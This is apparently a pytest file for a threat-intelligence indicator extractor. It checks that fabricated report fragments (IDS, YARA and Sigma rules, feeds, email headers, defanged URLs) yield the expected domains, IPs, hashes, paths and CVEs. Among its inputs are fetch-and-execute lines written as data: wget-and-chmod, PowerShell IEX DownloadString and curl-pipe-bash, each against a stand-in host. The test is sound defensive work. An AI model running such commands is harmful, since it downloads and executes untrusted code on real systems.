"""The language of threat reports: tables, rules, feeds, headers, typography.

All texts were written for this file.
"""

from __future__ import annotations

import pytest

from tqimap_processor.extract import extract, refang


MD5 = "0123456789abcdef" * 2
SHA1 = "01234567" * 5
SHA256 = "0123456789abcdef" * 4
SHA384 = "0123456789abcdef" * 6
MONERO = (
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft"
    "3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
)
ONION = "2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion"
# a piece of a report, and all that it holds apart from the hosts of URLs and addresses
REPORTS: list[tuple[str, set[tuple[str, str]]]] = [
    (
        (
            "| Type | Indicator | Note |\n|---|---|---|\n| domain | `cdn.bad-place["
            ".]net` | C2 |\n| sha1 | `" + SHA1 + "` | dropper |\n| ip | 45.77.12.9:443 | C2 |"
        ),
        {("FQDN", "cdn.bad-place.net"), ("IP Address", "45.77.12.9"), ("SHA-1", SHA1)},
    ),
    (
        "* [bad-place.net](http://bad-place.net/a) and **45.77.12.9**, __cdn.bad-place.net__",
        {
            ("FQDN", "bad-place.net"),
            ("FQDN", "cdn.bad-place.net"),
            ("IP Address", "45.77.12.9"),
            ("URL", "http://bad-place.net/a"),
        },
    ),
    (
        (
            '{"ip":"45.77.12.9","domain":"bad-place.net","url":"http:\\/\\/bad-plac'
            'e.net\\/a","md5":"' + MD5 + '","port":443}'
        ),
        {
            ("FQDN", "bad-place.net"),
            ("IP Address", "45.77.12.9"),
            ("MD5", MD5),
            ("URL", "http://bad-place.net/a"),
        },
    ),
    (
        "[domain-name:value = 'bad-place.net' OR ipv4-addr:value = '45.77.12.9']",
        {("FQDN", "bad-place.net"), ("IP Address", "45.77.12.9")},
    ),
    (
        ("[url:value = 'http://bad-place.net/a' AND file:hashes.'SHA-256' = '" + SHA256 + "']"),
        {("SHA-256", SHA256), ("URL", "http://bad-place.net/a")},
    ),
    (
        "[file:name = 'run_4711.exe'] FOLLOWEDBY [email-addr:value = 'ann@bad-place.net']",
        {("Email Address", "ann@bad-place.net"), ("Filename", "run_4711.exe")},
    ),
    (
        (
            'alert tcp $HOME_NET any -> 45.77.12.9 8443 (msg:"C2 bad-place.net"; '
            'content:"|05|"; sid:2039999; rev:1;)'
        ),
        {("FQDN", "bad-place.net"), ("IP Address", "45.77.12.9")},
    ),
    (
        (
            'alert dns any any -> any any (dns.query; content:"bad-place.net"; no'
            "case; reference:url,blog.good-house.org/a; sid:1;)"
        ),
        {("FQDN", "bad-place.net"), ("URL", "blog.good-house.org/a")},
    ),
    (
        (
            'rule X { strings: $a = "http://bad-place.net/gate.php" ascii wide $b'
            ' = "Global\\\\qaz5512" $m = { 4D 5A 90 } condition: all of them }'
        ),
        {("URL", "http://bad-place.net/gate.php")},
    ),
    (
        (
            "detection:\n  selection:\n    DestinationHostname|endswith:\n      - '."
            "bad-place.net'\n      - 'cdn.bad-place.net'\n    Image|endswith: '\\pow"
            "ershell.exe'"
        ),
        {("FQDN", "bad-place.net"), ("FQDN", "cdn.bad-place.net"), ("Filename", "powershell.exe")},
    ),
    (
        ("domain,bad-place.net,C2\nip,45.77.12.9,C2\nhash," + MD5 + ",x.exe\n"),
        {
            ("FQDN", "bad-place.net"),
            ("Filename", "x.exe"),
            ("IP Address", "45.77.12.9"),
            ("MD5", MD5),
        },
    ),
    (
        "bad-place.net;45.77.12.9;http://bad-place.net/a;ann@bad-place.net",
        {
            ("Email Address", "ann@bad-place.net"),
            ("FQDN", "bad-place.net"),
            ("IP Address", "45.77.12.9"),
            ("URL", "http://bad-place.net/a"),
        },
    ),
    (
        (
            "Received: from mx.bad-place.net (mx.bad-place.net [45.77.12.9]) by h"
            "ere with ESMTPS id 4Xyz; Mon, 4 Mar 2024 10:11:12 +0000"
        ),
        {("FQDN", "mx.bad-place.net"), ("IP Address", "45.77.12.9")},
    ),
    (
        (
            'From: "Ann" <ann@bad-place.net>\nReply-To: <bob@evil-house.org>\nRetur'
            "n-Path: bounce@bad-place.net"
        ),
        {
            ("Email Address", "ann@bad-place.net"),
            ("Email Address", "bob@evil-house.org"),
            ("Email Address", "bounce@bad-place.net"),
        },
    ),
    (
        (MD5 + "  setup_x.exe\n" + SHA256 + " *tool.dll"),
        {("Filename", "setup_x.exe"), ("Filename", "tool.dll"), ("MD5", MD5), ("SHA-256", SHA256)},
    ),
    (
        ("MD5:" + MD5 + "|SHA1=" + SHA1),
        {("MD5", MD5), ("SHA-1", SHA1)},
    ),
    (
        "http://a-place.net/1|http://b-place.net/2|hxxps://c-place[.]net/3",
        {
            ("URL", "http://a-place.net/1"),
            ("URL", "http://b-place.net/2"),
            ("URL", "https://c-place.net/3"),
        },
    ),
    (
        "45.77.12.9:8080, 45.77.12.10:443/tcp and 45.77.12.11 (port 53)",
        {
            ("IP Address", "45.77.12.10"),
            ("IP Address", "45.77.12.11"),
            ("IP Address", "45.77.12.9"),
        },
    ),
    (
        "range 45.77.12.1-45.77.12.9 and 45.77.13.1 - 45.77.13.9 and 45.77.0.0/16",
        {
            ("CIDR Block", "45.77.0.0/16"),
            ("IP Address", "45.77.12.1"),
            ("IP Address", "45.77.12.9"),
            ("IP Address", "45.77.13.1"),
            ("IP Address", "45.77.13.9"),
        },
    ),
    (
        ("leak site http://expyuzz4wqqyqhjn.onion/a and " + ONION),
        {("FQDN", ONION), ("URL", "http://expyuzz4wqqyqhjn.onion/a")},
    ),
    (
        "xn--mnchen-bank-thb.de und \u201em\xfcnchen-bank.de\u201c, \xbbbad-place.net\xab.",
        {("FQDN", "bad-place.net"), ("FQDN", "xn--mnchen-bank-thb.de")},
    ),
    (
        ("Der Server \u201ehxxps://bad-place[.]net/a\u201c; siehe auch \u201abad-place.org\u2018!"),
        {("FQDN", "bad-place.org"), ("URL", "https://bad-place.net/a")},
    ),
    (
        "le site \xab http://bad-place.net/a \xbb : 45.77.12.9 ; fin",
        {("IP Address", "45.77.12.9"), ("URL", "http://bad-place.net/a")},
    ),
    (
        "Siehe http://bad-place.net/a\u2026 und bad-place.org\u2026",
        {("FQDN", "bad-place.org"), ("URL", "http://bad-place.net/a")},
    ),
    (
        "see http://bad-place.net/a\u3002 then \u300chttp://bad-place.org/b\u300d",
        {("URL", "http://bad-place.net/a"), ("URL", "http://bad-place.org/b")},
    ),
    (
        (
            "C2s:\n- bad-place[.]net\n- evil-house[.]org\n\u2022 third-place[.]com\n1. fou"
            "rth-place[.]com"
        ),
        {
            ("FQDN", "bad-place.net"),
            ("FQDN", "evil-house.org"),
            ("FQDN", "fourth-place.com"),
            ("FQDN", "third-place.com"),
        },
    ),
    (
        "FQDN: bad-place.net.\nIP=45.77.12.9;host=cdn.bad-place.net:8443",
        {("FQDN", "bad-place.net"), ("FQDN", "cdn.bad-place.net"), ("IP Address", "45.77.12.9")},
    ),
    (
        "wget -q http://bad-place.net/a.sh -O /tmp/a.sh; chmod +x /tmp/a.sh",
        {("File Path", "/tmp/a.sh"), ("URL", "http://bad-place.net/a.sh")},
    ),
    (
        (
            "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://"
            "bad-place.net/a.ps1')\""
        ),
        {("URL", "http://bad-place.net/a.ps1")},
    ),
    (
        "curl -sL 'https://bad-place.net/a?x=1&y=2' | bash",
        {("URL", "https://bad-place.net/a?x=1&y=2")},
    ),
    (
        (
            "https[:]//bad-place[.]net/a, hxxp[://]evil-house[.]org:8080/b and hx"
            "xps:// third-place [.] com/c"
        ),
        {
            ("URL", "http://evil-house.org:8080/b"),
            ("URL", "https://bad-place.net/a"),
            ("URL", "https://third-place.com/c"),
        },
    ),
    (
        "<bad-place.net> (evil-house.org) [third-place.com] {fourth-place.com}",
        {
            ("FQDN", "bad-place.net"),
            ("FQDN", "evil-house.org"),
            ("FQDN", "fourth-place.com"),
            ("FQDN", "third-place.com"),
        },
    ),
    (
        "*.bad-place.net and .evil-house.org",
        {("FQDN", "bad-place.net"), ("FQDN", "evil-house.org")},
    ),
    (
        (
            "EHLO bad-place.net; TLS SNI=cdn.bad-place.net; JARM: 27d40d40d29d40d"
            "1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d"
        ),
        {
            ("FQDN", "bad-place.net"),
            ("FQDN", "cdn.bad-place.net"),
            ("Fuzzy Hash", "27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d"),
        },
    ),
    (
        "CVE-2024-3400, CVE\u20112023\u20114966 and CVE 2021 44228; (CVE-2019-0708)",
        {
            ("CVE", "CVE-2019-0708"),
            ("CVE", "CVE-2021-44228"),
            ("CVE", "CVE-2023-4966"),
            ("CVE", "CVE-2024-3400"),
        },
    ),
    (
        (
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater = C:\\Prog"
            "ramData\\upd.exe"
        ),
        {
            ("File Path", "C:\\ProgramData\\upd.exe"),
            (
                "Registry Key",
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
            ),
        },
    ),
    (
        (
            "copies itself to %APPDATA%\\Microsoft\\upd.exe and \u201cC:\\Users\\Public\\a "
            "b\\c.dll\u201d."
        ),
        {
            ("File Path", "%APPDATA%\\Microsoft\\upd.exe"),
            ("File Path", "C:\\Users\\Public\\a b\\c.dll"),
        },
    ),
    (
        'mutex name "Global\\\\M-1-2-3" / Mutex: {8F2A-11} ; mutex `qaz_wsx`',
        {("Mutex", "Global\\M-1-2-3"), ("Mutex", "qaz_wsx"), ("Mutex", "{8F2A-11}")},
    ),
    (
        ("User agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) BadBot/1.0\nUser-Agent: curl/7.0"),
        {
            ("User-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) BadBot/1.0"),
            ("User-agent", "curl/7.0"),
        },
    ),
    (
        (
            "ETH 0x52908400098527886E0F7030069857D2E4169EE7 BTC bc1qar0srrr7xfkvy"
            "5l643lydnw9re59gtzzwf5mdq XMR " + MONERO
        ),
        {
            ("String", "0x52908400098527886E0F7030069857D2E4169EE7"),
            ("String", MONERO),
            ("String", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"),
        },
    ),
    (
        (
            "Version 10.0.19045.4046, Build 22.1.1.0; Chrome/122.0.6261.95; relea"
            "sed 12.03.2024, 10.30 Uhr, 1.234.567,89 EUR"
        ),
        set(),
    ),
    (
        (
            "Die Datei rechnung.pdf.exe (Gr\xf6\xdfe 12.345 KB) wurde in C:\\Windows\\Tem"
            "p\\ abgelegt."
        ),
        {("File Path", "C:\\Windows\\Temp"), ("Filename", "rechnung.pdf.exe")},
    ),
    (
        "AS13335, AS 14061 and ASN: 16276; (AS64500)",
        {("ASN", "AS13335"), ("ASN", "AS14061"), ("ASN", "AS16276"), ("ASN", "AS64500")},
    ),
    (
        "00:1b:44:11:3a:b7, 00-1B-44-11-3A-B8 and 001b.4411.3ab9",
        {
            ("MAC Address", "001b.4411.3ab9"),
            ("MAC Address", "00:1b:44:11:3a:b7"),
            ("MAC Address", "00:1b:44:11:3a:b8"),
        },
    ),
    (
        "2a03:b0c0:3:d0::1a2b:1 and [2a03:b0c0::51:9]:443, fe80::1%eth0",
        {
            ("IPv6 Address", "2a03:b0c0:3:d0::1a2b:1"),
            ("IPv6 Address", "2a03:b0c0::51:9"),
            ("IPv6 Address", "fe80::1"),
        },
    ),
    (
        ("ssdeep: 1536:0YbGfVq2Y:Y0bGfV SHA384: " + SHA384),
        {("Fuzzy Hash", "1536:0YbGfVq2Y:Y0bGfV"), ("SHA-384", SHA384)},
    ),
    (
        "Telegram t.me/badchan and pastebin.com/raw/AbCd1234 hosted the list",
        {("URL", "pastebin.com/raw/AbCd1234"), ("URL", "t.me/badchan")},
    ),
    (
        ("ftp://user:pass@bad-place.net:2121/a.bin, sftp://evil-house.org, tcp://45.77.12.9:4444"),
        {
            ("URL", "ftp://user:pass@bad-place.net:2121/a.bin"),
            ("URL", "sftp://evil-house.org"),
            ("URL", "tcp://45.77.12.9:4444"),
        },
    ),
    (
        "http://bad-place.net/a(1).exe; http://bad-place.net/b.exe).",
        {("URL", "http://bad-place.net/a(1).exe"), ("URL", "http://bad-place.net/b.exe")},
    ),
    (
        (
            "Serial Number: 4a:5b:6c:7d:8e:9f:10:11:12 Thumbprint: 0123abcd0123ab"
            "cd0123abcd0123abcd0123abcd"
        ),
        {
            ("SHA-1", "0123abcd0123abcd0123abcd0123abcd0123abcd"),
            ("x509 Serial", "4a5b6c7d8e9f101112"),
        },
    ),
    (
        (
            "var a=document.getElementById('x').value; foo.bar.baz(); Math.floor("
            "1.5); console.log(a.b)"
        ),
        set(),
    ),
    (
        (
            "import os.path, re.compile; from a.b import c; System.IO.File.ReadAl"
            "lText(x); java.lang.String"
        ),
        set(),
    ),
    (
        ("body{margin:0}.header.main{color:#fff} a.button:hover{top:0} p.intro,div.info{left:0}"),
        set(),
    ),
]
IMPLIED = {"in-url", "in-address"}


@pytest.mark.parametrize(("text", "expected"), REPORTS)
def test_reports_are_read(text: str, expected: set[tuple[str, str]]) -> None:
    """A piece of a report yields its indicators and nothing else."""
    found = {(f.type, f.value) for f in extract(text) if not f.flags & IMPLIED}
    assert found == expected


def test_jarm_needs_its_label() -> None:
    """Sixty-two hexadecimal digits are a JARM fingerprint only where the text says so."""
    jarm = "27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d"
    (finding,) = extract(f"JARM: {jarm}")
    assert (finding.type, finding.value) == ("Fuzzy Hash", jarm)
    assert finding.attributes == (("Algorithm", "jarm"),)
    assert list(extract(f"token {jarm}")) == []


def test_the_target_stands_where_it_is_written() -> None:
    """A target that can be read in its wrapper has its own place there, and so has its host."""
    text = "https://click.good-house.org/?url=https%3A%2F%2Fbad-place.net%2Fx&id=7"
    target, host = (f for f in extract(text) if "unwrapped" in f.flags)
    assert text[target.start : target.end] == "https%3A%2F%2Fbad-place.net%2Fx"
    assert text[host.start : host.end] == "bad-place.net"


CANONICAL = [
    (r"C:\\Users\\x\\a.exe", r"C:\Users\x\a.exe"),
    (r"HKLM\\Software\\Bad", r"HKEY_LOCAL_MACHINE\Software\Bad"),
    ("HTTP://Bad-Place.NET/A", "http://bad-place.net/A"),
    ("cve_2021_44228", "CVE-2021-44228"),
    ("00-1B-44-11-3A-B7", "00:1b:44:11:3a:b7"),
    ("http%3A%2F%2Fbad-place.net%2Fx", "http://bad-place.net/x"),
]


@pytest.mark.parametrize(("written", "value"), CANONICAL)
def test_refang_gives_the_value_of_one_indicator(written: str, value: str) -> None:
    """What one finding covers refangs to its value, escaped backslashes and case undone."""
    text = f"first {written} last"
    finding = extract(text)[0]
    assert (text[finding.start : finding.end], finding.value) == (written, value)
    assert refang(written) == value
